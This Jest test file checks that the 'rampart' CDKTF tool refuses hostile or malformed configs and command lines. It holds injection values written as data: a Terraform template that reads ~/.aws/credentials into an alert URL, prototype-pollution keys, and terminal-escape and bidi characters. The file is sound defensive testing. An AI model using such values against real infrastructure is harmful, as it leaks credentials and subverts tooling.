import * as fs from 'fs';
import * as path from 'path';
import { Lazy, Token } from 'cdktf';
import { config as sample } from '../../config/rampart.config';
import { main } from '../../src/main';
import { tempDir } from '../helpers/synth';

/**
 * Hostile and broken configs and command lines, each run through the app's real entry function
 * `main(argv, io)` (the same code `node dist/src/main.js` runs; main.test.ts runs a subset in a
 * child process). Every case asserts the exit code, the error code, the field path, and that
 * cdktf.out was left exactly as it was.
 */

type Mutable = any;
const clone = (): Mutable => JSON.parse(JSON.stringify(sample));
const env = (c: Mutable, name: string): Mutable => c.environments.find((e: Mutable) => e.name === name);
const sampleText = JSON.stringify(sample, null, 2);
const numberToken = Token.asNumber(Lazy.numberValue({ produce: () => 3 }));
const policy = (statement: Record<string, unknown>): Record<string, unknown> => ({ Version: '2012-10-17', Statement: [statement] });
const allowAll = { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: '*' };
/** Moves an environment to another region, with a certificate and allowed regions to match. */
const moveTo = (c: Mutable, name: string, region: string): void => {
  const e = env(c, name);
  e.region = region;
  e.allowedRegions = [region];
  if (!c.org.allowedRegions.includes(region)) c.org.allowedRegions.push(region);
  if (e.workload) e.workload.certificateArn = `arn:aws:acm:${region}:${e.accountId}:certificate/x`;
};

interface Case {
  /** Changes the sample config (written as JSON). */
  readonly mutate?: (c: Mutable) => void;
  /** The file's text, instead of a mutated sample. */
  readonly text?: string;
  /** Arguments; `FILE` stands for the config file written. @default ['--config', FILE] */
  readonly argv?: readonly string[];
  /** Environment variables. */
  readonly env?: Record<string, string>;
  readonly exit: number;
  readonly code: string;
  readonly path: string;
  /** Extra text the problem's line must contain. */
  readonly says?: string;
}

const cases: Array<[string, Case]> = [
  // 1. No Terraform code from config
  [
    'template in an https alert endpoint',
    {
      mutate: (c) => (env(c, 'prod').monitoring.alertSubscriptions[1].endpoint = 'https://x.example.com/${file("~/.aws/credentials")}'),
      exit: 1,
      code: 'TEMPLATE_SEQUENCE',
      path: 'environments.prod.monitoring.alertSubscriptions[1].endpoint',
    },
  ],
  ['template directive in a tag', { mutate: (c) => (env(c, 'dev').owner = '%{ for k in keys(var.x) }${k}%{ endfor }'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'environments.dev.owner' }],
  ['cdktf token as a deploy role', { mutate: (c) => (env(c, 'dev').deployRoleArn = '${TfToken[TOKEN.12]}'), exit: 1, code: 'TOKEN', path: 'environments.dev.deployRoleArn' }],
  ['cdktf token as a VPN source', { mutate: (c) => (env(c, 'prod').network.vpnCidrs = ['${TfToken[TOKEN.3]}']), exit: 1, code: 'TOKEN', path: 'environments.prod.network.vpnCidrs[0]' }],
  ['cdktf token as a VPC CIDR', { mutate: (c) => (env(c, 'dev').vpcCidr = '${TfToken[TOKEN.7]}'), exit: 1, code: 'TOKEN', path: 'environments.dev.vpcCidr' }],
  ['cdktf number token as the AZ count', { mutate: (c) => (env(c, 'dev').azCount = numberToken), exit: 1, code: 'TOKEN', path: 'environments.dev.azCount' }],
  ['cdktf list token in the allowed regions', { mutate: (c) => (c.org.allowedRegions = ['#{TfToken[TOKEN.4]}']), exit: 1, code: 'TOKEN', path: 'org.allowedRegions[0]' }],
  ['template in the prefix', { mutate: (c) => (c.prefix = '${var.x}'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'prefix' }],
  ['template in the GitHub repository', { mutate: (c) => (c.github.repository = 'infra${path.cwd}'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'github.repository' }],
  ['template in a key', { mutate: (c) => (env(c, 'dev').network['${x}'] = 1), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'environments.dev.network["${x}"]' }],
  [
    'template directive inside a policy document',
    {
      mutate: (c) => (env(c, 'dev').network.endpointPolicies = { s3: policy({ ...allowAll, Resource: '%{ if true }*%{ endif }' }) }),
      exit: 1,
      code: 'TEMPLATE_SEQUENCE',
      path: 'environments.dev.network.endpointPolicies.s3.Statement[0].Resource',
    },
  ],
  [
    'cdktf token inside a policy document',
    {
      mutate: (c) => (env(c, 'dev').network.endpointPolicies = { s3: policy({ ...allowAll, Resource: '${TfToken[TOKEN.1]}' }) }),
      exit: 1,
      code: 'TOKEN',
      path: 'environments.dev.network.endpointPolicies.s3.Statement[0].Resource',
    },
  ],
  ['NUL in a tag', { mutate: (c) => (env(c, 'dev').costCenter = 'eng\u0000ineering'), exit: 1, code: 'CONTROL_CHARACTER', path: 'environments.dev.costCenter' }],
  ['newline in a tag', { mutate: (c) => (env(c, 'staging').compliance = 'gdpr\n  - prefix: fake line [OK]'), exit: 1, code: 'CONTROL_CHARACTER', path: 'environments.staging.compliance' }],
  ['terminal escape in an environment name', { mutate: (c) => (c.environments[0].name = 'dev\u001b[2J'), exit: 1, code: 'CONTROL_CHARACTER', path: 'environments[0].name' }],
  ['bidi override in a tag', { mutate: (c) => (c.platform.owner = 'team\u202eevil'), exit: 1, code: 'CONTROL_CHARACTER', path: 'platform.owner' }],
  [
    'line separator in an alert endpoint',
    { mutate: (c) => (c.org.monitoring.alertSubscriptions[0].endpoint = 'a@example.com\u2028x'), exit: 1, code: 'CONTROL_CHARACTER', path: 'org.monitoring.alertSubscriptions[0].endpoint' },
  ],
  [
    'template in a certificate ARN',
    {
      mutate: (c) => (env(c, 'dev').workload.certificateArn = 'arn:aws:acm:eu-central-1:333333333333:certificate/${x}'),
      exit: 1,
      code: 'TEMPLATE_SEQUENCE',
      path: 'environments.dev.workload.certificateArn',
    },
  ],
  ['template in an image', { mutate: (c) => (env(c, 'dev').workload.image = 'nginx:${timestamp()}'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'environments.dev.workload.image' }],
  [
    'template in the break-glass pattern',
    { mutate: (c) => (c.org.guardrails.breakGlassRolePattern = 'arn:aws:iam::*:role/${x}'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'org.guardrails.breakGlassRolePattern' },
  ],
  [
    'template in the HCP Terraform host',
    { mutate: (c) => (c.state = { backend: 'cloud', cloud: { organization: 'acme', hostname: '${x}.example.com' } }), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'state.cloud.hostname' },
  ],
  ['template in the health-check path', { mutate: (c) => (env(c, 'dev').workload.healthCheckPath = '/${x}'), exit: 1, code: 'TEMPLATE_SEQUENCE', path: 'environments.dev.workload.healthCheckPath' }],
  [
    'template in the snapshot code key',
    {
      mutate: (c) => (env(c, 'prod').workload.database.snapshotCode = { s3Bucket: 'code-bucket', s3Key: '${x}.zip' }),
      exit: 1,
      code: 'TEMPLATE_SEQUENCE',
      path: 'environments.prod.workload.database.snapshotCode.s3Key',
    },
  ],

  // 2. Strict parsing
  [
    'duplicate production flag',
    { text: sampleText.replace('"production": true,', '"production": true,\n      "production": false,'), exit: 1, code: 'DUPLICATE_KEY', path: 'environments[2].production', says: 'lines' },
  ],
  ['duplicate prefix', { text: sampleText.replace('"prefix": "acme",', '"prefix": "acme",\n  "prefix": "evil",'), exit: 1, code: 'DUPLICATE_KEY', path: 'prefix' }],
  [
    'duplicate key in a network section',
    { text: sampleText.replace('"natMode": "single",', '"natMode": "single", "natMode": "none",'), exit: 1, code: 'DUPLICATE_KEY', path: 'environments[0].network.natMode' },
  ],
  ['misspelt field gets a hint', { mutate: (c) => (env(c, 'dev').azcount = 2), exit: 1, code: 'UNKNOWN_FIELD', path: 'environments.dev.azcount', says: 'did you mean "azCount"?' }],
  [
    'misspelt section gets a hint',
    { mutate: (c) => ((c.enviroments = c.environments), delete c.environments), exit: 1, code: 'UNKNOWN_FIELD', path: 'enviroments', says: 'did you mean "environments"?' },
  ],
  ['misspelt nested field gets a hint', { mutate: (c) => (c.org.guardrails.targetId = ['root']), exit: 1, code: 'UNKNOWN_FIELD', path: 'org.guardrails.targetId', says: 'did you mean "targetIds"?' }],
  [
    'byte order mark is accepted (the bad field behind it is found)',
    { text: `\ufeff${sampleText.replace('"azCount": 3', '"azCount": 9')}`, exit: 1, code: 'OUT_OF_RANGE', path: 'environments.prod.azCount' },
  ],
  ['file over the size limit', { text: `{"prefix": "${'a'.repeat(1024 * 1024)}"}`, exit: 1, code: 'CONFIG_SIZE', path: '(config file)' }],
  ['nesting far over the depth limit', { text: `${'['.repeat(200_000)}${']'.repeat(200_000)}`, exit: 1, code: 'CONFIG_DEPTH', path: '(config file)' }],
  [
    'nesting over the depth limit inside a policy document',
    {
      mutate: (c) => {
        let deep: Mutable = 'x';
        for (let i = 0; i < 40; i++) deep = { a: deep };
        env(c, 'dev').network.endpointPolicies = { s3: { Statement: [], Deep: deep } };
      },
      exit: 1,
      code: 'CONFIG_DEPTH',
      path: '(config file)',
    },
  ],
  ['not JSON', { text: '{ prefix: ', exit: 1, code: 'JSON_SYNTAX', path: '(config file)' }],
  ['trailing comma', { text: sampleText.replace(/}\s*$/, ',}'), exit: 1, code: 'JSON_SYNTAX', path: '(config file)' }],
  ['comments', { text: `// settings\n${sampleText}`, exit: 1, code: 'JSON_SYNTAX', path: '(config file)' }],
  ['empty file', { text: '', exit: 1, code: 'JSON_SYNTAX', path: '(config file)' }],
  ['a list instead of a config', { text: '[]', exit: 1, code: 'TYPE', path: '(config)' }],
  ['null instead of a config', { text: 'null', exit: 1, code: 'TYPE', path: '(config)' }],
  ['a string over the length limit', { mutate: (c) => (env(c, 'dev').owner = 'x'.repeat(20_000)), exit: 1, code: 'STRING_LENGTH', path: 'environments.dev.owner' }],

  // 3. Command line
  ['--config without a value', { argv: ['--config'], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['--config= with an empty value', { argv: ['--config='], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['--config with an empty string', { argv: ['--config', ''], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['--config followed by another flag', { argv: ['--config', '--verbose'], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['misspelt flag', { argv: ['--confg', 'FILE'], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['stray argument', { argv: ['FILE'], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['--config given twice', { argv: ['--config', 'FILE', '--config=FILE'], exit: 2, code: 'USAGE', path: '(command line)' }],
  ['RAMPART_CONFIG set but empty', { argv: [], env: { RAMPART_CONFIG: '' }, exit: 2, code: 'USAGE', path: '(command line)' }],
  ['RAMPART_CONFIG of blanks', { argv: [], env: { RAMPART_CONFIG: '  ' }, exit: 2, code: 'USAGE', path: '(command line)' }],
  ['config file that does not exist', { argv: ['--config', 'FILE.missing'], exit: 2, code: 'CONFIG_FILE', path: '(config file)', says: 'ENOENT' }],
  ['config file that is a directory', { argv: ['--config=DIR'], exit: 2, code: 'CONFIG_FILE', path: '(config file)' }],
  ['RAMPART_CONFIG naming a missing file', { argv: [], env: { RAMPART_CONFIG: 'FILE.missing' }, exit: 2, code: 'CONFIG_FILE', path: '(config file)' }],
  ['--config= naming a missing file', { argv: ['--config=FILE.missing'], exit: 2, code: 'CONFIG_FILE', path: '(config file)' }],
  ['RAMPART_CONFIG with a bad config', { argv: [], env: { RAMPART_CONFIG: 'FILE' }, mutate: (c) => (c.prefix = 'A'), exit: 1, code: 'NAME_FORMAT', path: 'prefix' }],

  // 4. Rules across fields
  ['VPC inside the VPN-only SSH source', { mutate: (c) => (env(c, 'dev').vpcCidr = '172.16.0.0/16'), exit: 1, code: 'CIDR_OVERLAP', path: 'environments.dev.vpcCidr', says: 'network.vpnCidrs[0]' }],
  [
    'VPC overlapping its own deny list',
    { mutate: (c) => (env(c, 'dev').network.denyCidrs = ['10.0.4.0/24']), exit: 1, code: 'CIDR_OVERLAP', path: 'environments.dev.vpcCidr', says: 'environments.dev.network.denyCidrs[0]' },
  ],
  [
    "VPC overlapping another environment's deny list",
    { mutate: (c) => (env(c, 'dev').network.denyCidrs = ['10.1.0.0/24']), exit: 1, code: 'CIDR_OVERLAP', path: 'environments.staging.vpcCidr', says: 'environments.dev.network.denyCidrs[0]' },
  ],
  ['VPC in link-local space', { mutate: (c) => (env(c, 'dev').vpcCidr = '169.254.0.0/16'), exit: 1, code: 'CIDR_RESERVED', path: 'environments.dev.vpcCidr' }],
  ['VPC in loopback space', { mutate: (c) => (env(c, 'dev').vpcCidr = '127.0.0.0/16'), exit: 1, code: 'CIDR_RESERVED', path: 'environments.dev.vpcCidr' }],
  ['VPC in multicast space', { mutate: (c) => (env(c, 'dev').vpcCidr = '224.0.0.0/16'), exit: 1, code: 'CIDR_RESERVED', path: 'environments.dev.vpcCidr' }],
  ['VPC in 0.0.0.0/8', { mutate: (c) => (env(c, 'dev').vpcCidr = '0.0.0.0/16'), exit: 1, code: 'CIDR_RESERVED', path: 'environments.dev.vpcCidr' }],
  ['more zones than eu-central-1 has', { mutate: (c) => (env(c, 'prod').azCount = 4), exit: 1, code: 'AZ_COUNT', path: 'environments.prod.azCount', says: '3 zones of region eu-central-1' }],
  ['more zones than us-west-1 has', { mutate: (c) => (moveTo(c, 'dev', 'us-west-1'), (env(c, 'dev').azCount = 3)), exit: 1, code: 'AZ_COUNT', path: 'environments.dev.azCount' }],
  [
    'more zones than a region described in config has',
    { mutate: (c) => ((c.regions = { 'xx-test-1': { zones: 2 } }), moveTo(c, 'prod', 'xx-test-1')), exit: 1, code: 'AZ_COUNT', path: 'environments.prod.azCount', says: '2 zones of region xx-test-1' },
  ],
  ['region neither in the tables nor in config', { mutate: (c) => moveTo(c, 'dev', 'xx-test-1'), exit: 1, code: 'REGION_UNKNOWN', path: 'org.allowedRegions[2]' }],
  [
    'environment region outside org.allowedRegions',
    {
      mutate: (c) => {
        moveTo(c, 'dev', 'us-east-1');
        c.org.allowedRegions.pop();
      },
      exit: 1,
      code: 'REGION_NOT_ALLOWED',
      path: 'environments.dev.region',
      says: 'org.allowedRegions',
    },
  ],
  ['bootstrap region outside org.allowedRegions', { mutate: (c) => (c.bootstrap.region = 'us-east-1'), exit: 1, code: 'REGION_NOT_ALLOWED', path: 'bootstrap.region', says: 'org.allowedRegions' }],
  [
    'environment in the management account',
    {
      mutate: (c) => {
        const d = env(c, 'dev');
        d.accountId = '111111111111';
        d.deployRoleArn = 'arn:aws:iam::111111111111:role/d';
        d.keyAdminRoleArn = 'arn:aws:iam::111111111111:role/k';
        d.workload.certificateArn = 'arn:aws:acm:eu-central-1:111111111111:certificate/x';
      },
      exit: 1,
      code: 'MANAGEMENT_ACCOUNT',
      path: 'environments.dev.accountId',
      says: 'org.accountId',
    },
  ],
  [
    'deploy role in the China partition for a commercial region',
    {
      mutate: (c) => (env(c, 'dev').deployRoleArn = 'arn:aws-cn:iam::333333333333:role/rampart-deploy'),
      exit: 1,
      code: 'PARTITION_MISMATCH',
      path: 'environments.dev.deployRoleArn',
      says: 'environments.dev.region',
    },
  ],
  [
    'state role in the GovCloud partition',
    { mutate: (c) => (c.bootstrap.stateRoleArn = 'arn:aws-us-gov:iam::222222222222:role/state'), exit: 1, code: 'PARTITION_MISMATCH', path: 'bootstrap.stateRoleArn' },
  ],
  [
    'break-glass pattern in another partition',
    {
      mutate: (c) => (c.org.guardrails.breakGlassRolePattern = 'arn:aws-cn:iam::*:role/acme-*-break-glass'),
      exit: 1,
      code: 'PARTITION_MISMATCH',
      path: 'org.guardrails.breakGlassRolePattern',
      says: 'org.region',
    },
  ],
  ['state bucket with the sthree- prefix', { mutate: (c) => (c.bootstrap.stateBucketName = 'sthree-state'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName' }],
  ['state bucket with the amzn-s3-demo- prefix', { mutate: (c) => (c.bootstrap.stateBucketName = 'amzn-s3-demo-state'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName' }],
  ['state bucket with the --x-s3 suffix', { mutate: (c) => (c.bootstrap.stateBucketName = 'state--x-s3'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName' }],
  ['state bucket with the xn-- prefix', { mutate: (c) => (c.bootstrap.stateBucketName = 'xn--state'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName' }],
  ['state bucket with the -s3alias suffix', { mutate: (c) => (c.bootstrap.stateBucketName = 'state-s3alias'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName' }],
  [
    'snapshot code bucket with the --ol-s3 suffix',
    {
      mutate: (c) => (env(c, 'prod').workload.database.snapshotCode = { s3Bucket: 'code--ol-s3', s3Key: 'a.zip' }),
      exit: 1,
      code: 'S3_NAME',
      path: 'environments.prod.workload.database.snapshotCode.s3Bucket',
    },
  ],
  ['derived state bucket with a reserved prefix', { mutate: (c) => (c.prefix = 'sthree'), exit: 1, code: 'S3_NAME', path: 'bootstrap.stateBucketName', says: 'derived from prefix' }],
  [
    'app HTTPS egress without NAT',
    {
      mutate: (c) => (env(c, 'dev').network = { natMode: 'none', appHttpsEgressCidrs: ['203.0.113.0/24'] }),
      exit: 1,
      code: 'NAT_REQUIRED',
      path: 'environments.dev.network.appHttpsEgressCidrs',
      says: 'natMode',
    },
  ],
  ['image digest too short', { mutate: (c) => (env(c, 'dev').workload.image = 'repo/app@sha256:abc123'), exit: 1, code: 'IMAGE_DIGEST', path: 'environments.dev.workload.image' }],
  ['image digest in upper case', { mutate: (c) => (env(c, 'dev').workload.image = `repo/app@sha256:${'D'.repeat(64)}`), exit: 1, code: 'IMAGE_DIGEST', path: 'environments.dev.workload.image' }],
  ['image digest of another algorithm', { mutate: (c) => (env(c, 'dev').workload.image = `repo/app@md5:${'d'.repeat(32)}`), exit: 1, code: 'IMAGE_DIGEST', path: 'environments.dev.workload.image' }],

  // 5. Never crash, never flood
  ['__proto__ key at the top', { text: sampleText.replace('{', '{"__proto__": {"polluted": true},'), exit: 1, code: 'PROTOTYPE_KEY', path: '__proto__' }],
  [
    'constructor key in a section',
    { text: sampleText.replace('"natMode": "single",', '"constructor": {"prototype": {"x": 1}}, "natMode": "single",'), exit: 1, code: 'PROTOTYPE_KEY', path: 'environments.dev.network.constructor' },
  ],
  [
    '__proto__ key in a policy document',
    {
      mutate: (c) => (env(c, 'dev').network.endpointPolicies = JSON.parse('{"s3": {"Statement": [], "__proto__": {"x": 1}}}')),
      exit: 1,
      code: 'PROTOTYPE_KEY',
      path: 'environments.dev.network.endpointPolicies.s3.__proto__',
    },
  ],
  ['environment named constructor', { mutate: (c) => (c.environments[0].name = 'constructor'), exit: 1, code: 'RESERVED_NAME', path: 'environments[0].name' }],
  ['environment named __proto__', { mutate: (c) => (c.environments[0].name = '__proto__'), exit: 1, code: 'NAME_FORMAT', path: 'environments[0].name' }],
  ['environments null', { mutate: (c) => (c.environments = null), exit: 1, code: 'TYPE', path: 'environments' }],
  ['environments as an object by name', { mutate: (c) => (c.environments = { dev: c.environments[0] }), exit: 1, code: 'TYPE', path: 'environments' }],
  ['an environment that is null', { mutate: (c) => (c.environments[0] = null), exit: 1, code: 'TYPE', path: 'environments[0]' }],
  ['an environment that is a list', { mutate: (c) => (c.environments[0] = []), exit: 1, code: 'TYPE', path: 'environments[0]', says: 'not a list' }],
  ['org as a list', { mutate: (c) => (c.org = []), exit: 1, code: 'TYPE', path: 'org' }],
  ['alert subscriptions null', { mutate: (c) => (env(c, 'dev').monitoring.alertSubscriptions = null), exit: 1, code: 'TYPE', path: 'environments.dev.monitoring.alertSubscriptions' }],
  ['network as a string', { mutate: (c) => (env(c, 'dev').network = 'default'), exit: 1, code: 'TYPE', path: 'environments.dev.network' }],
  ['AZ count as an object', { mutate: (c) => (env(c, 'dev').azCount = {}), exit: 1, code: 'TYPE', path: 'environments.dev.azCount' }],
  ['AZ count huge', { mutate: (c) => (env(c, 'dev').azCount = 1e308), exit: 1, code: 'OUT_OF_RANGE', path: 'environments.dev.azCount' }],
  ['VPC CIDR as a number', { mutate: (c) => (env(c, 'dev').vpcCidr = 10), exit: 1, code: 'TYPE', path: 'environments.dev.vpcCidr' }],
  ['allowed regions as an object', { mutate: (c) => (c.org.allowedRegions = { 'eu-central-1': true }), exit: 1, code: 'TYPE', path: 'org.allowedRegions' }],
  ['platform as a boolean', { mutate: (c) => (c.platform = true), exit: 1, code: 'TYPE', path: 'platform' }],
  ['prefix as a list', { mutate: (c) => (c.prefix = ['acme']), exit: 1, code: 'TYPE', path: 'prefix' }],
  ['a long bad value is cut short', { mutate: (c) => (env(c, 'dev').owner = `team!${'x'.repeat(5000)}`), exit: 1, code: 'TAG_VALUE', path: 'environments.dev.owner' }],
  ['a long unknown key is cut short', { mutate: (c) => (env(c, 'dev')[`k${'y'.repeat(3000)}`] = 1), exit: 1, code: 'UNKNOWN_FIELD', path: `environments.dev["k${'y'.repeat(36)}..."]` }],
  ['thousands of bad entries are capped', { mutate: (c) => (env(c, 'dev').network.denyCidrs = Array.from({ length: 5000 }, (_, i) => `bad-${i}`)), exit: 1, code: 'MORE_PROBLEMS', path: '(config)' }],
];

describe('hostile and broken configs: refused with a typed error, nothing written', () => {
  const root = tempDir('hostile');
  const sentinel = '{"sentinel":true}';

  test('the table covers at least 80 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(80);
  });

  test.each(cases)('%s', (title, c) => {
    const dir = fs.mkdtempSync(path.join(root, 'case-'));
    const outdir = path.join(dir, 'cdktf.out');
    fs.mkdirSync(path.join(outdir, 'stacks', 'dev'), { recursive: true });
    fs.writeFileSync(path.join(outdir, 'stacks', 'dev', 'cdk.tf.json'), sentinel);
    const file = path.join(dir, 'config.json');
    let text = c.text;
    if (text === undefined) {
      const config = clone();
      c.mutate?.(config);
      text = JSON.stringify(config);
    }
    fs.writeFileSync(file, text);
    fs.mkdirSync(path.join(dir, 'DIR'));
    const sub = (s: string): string =>
      s
        .replace(/^FILE/, file)
        .replace(/^DIR$/, path.join(dir, 'DIR'))
        .replace(/=FILE/, `=${file}`)
        .replace(/=DIR$/, `=${path.join(dir, 'DIR')}`);
    const argv = (c.argv ?? ['--config', 'FILE']).map(sub);
    const envVars: Record<string, string> = { CDKTF_OUTDIR: outdir };
    for (const [k, v] of Object.entries(c.env ?? {})) envVars[k] = sub(v);
    let stdout = '';
    let stderr = '';

    const exit = main(argv, { env: envVars, cwd: dir, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });

    expect({ title, exit }).toEqual({ title, exit: c.exit });
    expect(stdout).toBe('');
    const lines = stderr.split('\n');
    const problem = lines.find((l) => l.replace(/^(rampart: | {2}- )/, '').startsWith(`${c.path}: `) && l.endsWith(`[${c.code}]`));
    expect({ title, problem: problem ?? stderr }).toEqual({ title, problem: expect.stringContaining(c.says ?? '') });
    // never a stack trace, never the sample, never a flood: short lines, capped count
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(stderr).not.toContain('using the built-in sample');
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThan(400);
    expect(lines.length).toBeLessThan(60);
    // cdktf.out untouched, no staging directory left
    expect(fs.readdirSync(outdir)).toEqual(['stacks']);
    expect(fs.readdirSync(path.join(outdir, 'stacks'))).toEqual(['dev']);
    expect(fs.readFileSync(path.join(outdir, 'stacks', 'dev', 'cdk.tf.json'), 'utf8')).toBe(sentinel);
    expect(fs.readdirSync(dir).sort()).toEqual(['DIR', 'cdktf.out', 'config.json']);
  });
});
